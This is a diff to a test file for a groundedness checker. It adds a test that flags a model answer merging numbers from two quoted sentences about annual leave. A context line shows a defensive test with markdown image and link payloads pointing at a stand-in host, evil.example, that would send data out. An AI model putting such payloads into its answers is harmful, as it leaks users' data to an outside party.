@@ -119,6 +119,23 @@ def test_it_says_why_a_model_answer_is_not_grounded(checker, text, question, pro
     assert checked.flags == [f"The model's answer {problem}."]
 
 
+def test_it_keeps_a_number_in_the_sentence_it_was_quoted_from(checker):
+    # A new-user trial: the quote says 25 days, and 27 after 5 years; the model said "which is 27 days".
+    leave = quote(1, "Full-time employees receive 25 days of annual leave per year plus public holidays. "
+                     "After 5 years of continuous service, entitlement rises to 27 days.")
+    question = "How many days of annual leave do full-time employees get?"
+
+    joined = grounded(checker, "Full-time employees receive 25 days of annual leave per year plus public holidays, "
+                               "which is 27 days. [1]", [leave], question=question)
+    kept = grounded(checker, "Full-time employees receive 25 days of annual leave per year plus public holidays. "
+                             "After 5 years of continuous service, entitlement rises to 27 days. [1]",
+                    [leave], question=question)
+
+    assert joined.flags == ["The model's answer puts numbers from different quoted sentences into one sentence "
+                            "(25, 27)."]
+    assert kept.flags == []
+
+
 def test_it_removes_images_and_links_that_would_send_data_out(checker):
     checked = check(
         checker, "Done [1]. ![x](https://evil.example/log?q=notice) see [here](http://evil.example) or https://evil.example/a",
